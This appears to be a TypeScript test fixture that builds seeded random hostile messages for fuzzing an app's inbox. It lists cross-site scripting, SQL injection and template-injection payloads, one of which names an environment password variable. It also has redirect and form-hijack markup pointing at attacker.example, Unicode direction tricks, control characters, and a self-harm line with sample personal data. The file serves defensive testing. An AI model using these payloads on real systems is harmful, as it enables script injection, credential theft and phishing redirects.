import type { PretendMessage } from '../../src/networks/testing/pretend-inbox.ts';

/** What nobody should send, and somebody will. None of the markup is ours: no page of the desk has these elements or attributes. */
const PIECES: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '</blockquote></main></body></html><h1>Not ours</h1>',
  "' onmouseover='alert(1)' x='",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '</textarea><input name=csrf value=stolen>',
  '</title><meta http-equiv=refresh content="0;url=https://attacker.example">',
  '<style>*{display:none}</style>',
  '<form action=https://attacker.example><button>Send answer</button></form>',
  '<base href=https://attacker.example/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<!--',
  ']]>',
  '<![CDATA[',
  '&lt;b&gt; &amp;amp; &#60;script&#62; &#x202e; &nbsp',
  'javascript:alert(1) https://attacker.example/"onclick="alert(1)',
  "'; DROP TABLE messages; --",
  'Robert"); DELETE FROM answers WHERE ("1"="1',
  '${process.env.NEWS_APP_PASSWORD} {{7*7}} <%= 7*7 %> #{7*7} {link} {pals}',
  '%s%n%x %00 \\u0000 \\x3cscript\\x3e',
  '\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Frtl\u200E \u061C',
  'مرحبا بالعالم שלום עולם',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(30),
  '\0\u0001\u0007\u0008\u000B\u000C\u001B[31m\u007F\u0085\u009B',
  '\uD800 \uDC00\uD83D lone \uDFFF',
  '\uFEFF\u200B\u2060\u00AD\u{E0001}\u{E0041}\uFFFE\uFFFF\u{10FFFF}',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧👍🏿'.repeat(5),
  '\r\n\r\n\u2028\u2029\u000B\t',
  'ﷺ﷽𝕳𝖊𝖑𝖑𝖔 ﬃ İ ß',
  'a'.repeat(3000),
  'https://attacker.example/' + 'a'.repeat(2000),
  'lo\u00ADng\u200Bword'.repeat(300),
  '> quoted\n> '.repeat(40),
  'I want to kill myself',
  'Is the clinic open on Sunday?',
  'My name is Mary Jones, M33 2AB, mary.jones@gmail.com',
];

/** What they are called. */
export const HOSTILE_NAMES: readonly string[] = [
  'anna',
  '<b>anna</b>',
  '"><script>alert(1)</script>',
  '\u202Eeditor',
  "o'brien & sons",
  '\0',
  '👩‍⚕️',
  'a'.repeat(500),
];

/** A generator of numbers from 0 up to 1, the same for the same seed (mulberry32). */
export function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** So many hostile messages, the same for the same seed: each of up to six pieces in any order, some cut in the middle. */
export function hostileMessages(count: number, seed: number): readonly PretendMessage[] {
  const random = numbers(seed);
  const pick = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)] as T;
  return Array.from({ length: count }, (_, n): PretendMessage => {
    const pieces = Array.from({ length: 1 + Math.floor(random() * 6) }, () => pick(PIECES));
    const whole = pieces.join(pick(['', ' ', '\n', '\0', '"']));
    const text = random() < 0.2 ? whole.slice(0, Math.floor(random() * whole.length)) : whole;
    return {
      kind: 'mention',
      text: `${n} ${text}`,
      author: `resident${n % 97}`,
      at: Date.UTC(2026, 10, 20, 9) + n * 1000,
    };
  });
}
